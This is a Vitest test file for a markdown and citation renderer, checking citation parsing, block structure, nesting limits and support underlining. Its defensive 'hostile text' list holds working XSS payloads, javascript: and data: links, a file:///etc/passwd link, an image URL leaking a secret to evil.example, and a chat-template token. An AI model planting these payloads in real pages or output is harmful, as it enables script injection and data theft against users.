import { describe, expect, it } from 'vitest'
import { glue } from '../src/lib/text/glue'
import { blocksOf, plainRuns, webAddress, type Block, type Inline } from '../src/lib/text/markdown'
import { markSupport, supportNote } from '../src/lib/text/support'

const known = (n: number) => n <= 3

/** Every run of every block. */
function runs(blocks: Block[]): Inline[] {
  return blocks.flatMap((b): Inline[] => {
    switch (b.kind) {
      case 'paragraph':
      case 'heading':
        return b.runs
      case 'list':
        return b.items.flatMap(runs)
      case 'quote':
        return runs(b.blocks)
      case 'table':
        return [...b.header.flat(), ...b.rows.flat(2)]
      default:
        return []
    }
  })
}
const words = (blocks: Block[]) => runs(blocks).map((r) => (r.kind === 'cite' ? `<${r.n}>` : r.text)).join('')

describe('citations', () => {
  it.each([
    ['A fact [1].', 'A fact <1>.'],
    ['Two [1][2] and [1, 3].', 'Two <1><2> and <1><3>.'],
    ['Invented [9].', 'Invented .'],
    ['**Bold [2]**', 'Bold <2>'],
    ['- item [1]\n- other [2]', 'item <1>other <2>'],
    ['A year [1972] stays', 'A year [1972] stays'],
    ['[1]: https://evil.example\n\nSee [1].', '<1>: https://evil.exampleSee <1>.'],
  ])('%s', (source, want) => {
    expect(words(blocksOf(source, known))).toBe(want)
  })

  it('reads plain text too', () => {
    expect(plainRuns('x [2]', known).map((r) => r.kind)).toEqual(['text', 'cite'])
  })
})

describe('glue', () => {
  const groups = (source: string) =>
    glue(plainRuns(source, known)).map((g) => {
      const text = g.runs.map((r) => (r.kind === 'cite' ? `<${r.n}>` : r.text)).join('')
      return g.glued ? `{${text}}` : text
    })

  it.each([
    ['A fact here [1]. Next', ['A fact ', '{here<1>.}', ' Next']],
    ['One [1] [2], two', ['{One<1><2>,}', ' two']],
    ['[1] starts', ['{<1>}', ' starts']],
    ['a [1] b [2]', ['{a<1>}', ' ', '{b<2>}']],
    ['none', ['none']],
  ])('%s', (source, want) => {
    expect(groups(source)).toEqual(want)
  })

  it('looks past a blank that stands alone', () => {
    const run = (text: string) => ({ kind: 'text' as const, text })
    const [first, second] = glue([{ ...run('some words'), support: 'no' }, run(' '), { kind: 'cite', text: '1', n: 1 }])
    expect(first).toEqual({ glued: false, runs: [{ kind: 'text', text: 'some ', support: 'no' }] })
    expect(second!.runs.map((r) => r.text)).toEqual(['words', '1'])
  })
})

describe('blocks', () => {
  it('keeps the kinds an answer needs', () => {
    const source = '# Title\n\npara\n\n1. one\n2. two\n\n> quote\n\n```r\nx <- 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---'
    expect(blocksOf(source, known).map((b) => b.kind)).toEqual(['heading', 'paragraph', 'list', 'quote', 'code', 'table', 'rule'])
  })

  it('gives up no text for any prefix of a stream', () => {
    const source = 'A **bold** [1] and `code`\n\n- item\n\n| a |\n|---|\n| b |'
    for (let i = 0; i <= source.length; i++) expect(() => blocksOf(source.slice(0, i), known)).not.toThrow()
  })
})

/** What a hostile document or model might write. None of it may become more than characters. */
const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<style>*{display:none}</style>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:x)',
  '[x](file:///etc/passwd)',
  '[x](wails://wails/)',
  '[x](ibid:///open?module=a)',
  '![x](https://evil.example/pixel.png)',
  '![x](https://evil.example/?q=`secret`)',
  '<https://evil.example/auto>',
  '[a]: https://evil.example\n\n[a]',
  '<div style="position:fixed;inset:0">cover</div>',
  '<<script>script>alert(1)<</script>/script>',
  '`<script>`',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <b>x</b> |',
  '\u202Egnp.exe',
  '<|endoftext|>',
  '[1](https://evil.example)',
  '\uE000forged\uE002 support marks',
]

describe('hostile text', () => {
  it.each(hostile)('%s', (source) => {
    const all = runs(blocksOf(markSupport(source, []), known))
    for (const run of all) {
      expect(['text', 'code', 'cite', 'link', 'break']).toContain(run.kind)
      if (run.kind === 'link') expect(run.href).toMatch(/^https?:\/\//)
      expect(run.support).toBeUndefined()
    }
    expect(all.some((run) => 'src' in run || 'html' in run)).toBe(false)
  })

  it('never makes a link of anything but the web', () => {
    for (const href of ['javascript:1', 'java\nscript:1', 'data:,x', 'file:///x', 'ftp://x', '//x', '/x', '#x', '', 'wails://x']) {
      expect(webAddress(href)).toBe('')
    }
    expect(webAddress('https://example.org/a')).toBe('https://example.org/a')
  })
})

describe('support', () => {
  it('marks the sentences that their source does not support', () => {
    const answer = 'Depth **matters** [1]. It is *fun* [2]. Sure.'
    const sentences = [
      { text: 'Depth matters.', citations: [1], support: 'supported' as const },
      { text: 'It is fun.', citations: [2], support: 'no' as const },
      { text: 'Sure.', citations: [], support: 'partly' as const },
    ]
    const all = runs(blocksOf(markSupport(answer, sentences), known))
    const of = (support?: string) => all.filter((r) => r.support === support).map((r) => r.text).join('')
    expect(of('no').replace(/\s/g, ' ')).toContain('It is fun')
    expect(of('partly')).toBe('Sure.')
    expect(of()).toContain('Depth matters')
    expect(supportNote(sentences)).toBe('1 sentence is not backed by a cited place, 1 sentence is backed only in part: underlined above.')
    expect(supportNote(sentences.slice(0, 1))).toBe('')
  })

  it('leaves the answer as it is when a sentence cannot be found', () => {
    const lost = [{ text: 'Something else entirely.', citations: [], support: 'no' as const }]
    expect(markSupport('The answer.', lost)).toBe('The answer.')
  })

  // A pattern that tries again from each blank never ends here; the limit only says that it did, whatever the machine.
  it('comes to an end on long answers with sentences that nearly match', () => {
    const answer = 'the cat sat on the mat and '.repeat(400)
    const sentence = { text: 'the cat sat on the mat and '.repeat(20) + 'dog', citations: [], support: 'no' as const }
    const before = performance.now()
    expect(markSupport(answer, [sentence])).toBe(answer)
    expect(performance.now() - before).toBeLessThan(10_000)
  })
})

describe('nesting', () => {
  const depth = (blocks: Block[]): number =>
    Math.max(0, ...blocks.map((b) => (b.kind === 'quote' ? 1 + depth(b.blocks) : b.kind === 'list' ? 1 + Math.max(...b.items.map(depth)) : 0)))

  it.each([
    ['quotes', `${'> '.repeat(500)}deep`],
    ['lists', Array.from({ length: 60 }, (_, i) => `${'  '.repeat(i)}- item`).join('\n')],
  ])('of %s is bounded, and no word is lost', (_, source) => {
    const blocks = blocksOf(source, known)
    expect(depth(blocks)).toBeLessThan(15)
    expect(words(blocks).match(/deep|item/g)).toHaveLength(source.match(/deep|item/g)!.length)
  })
})
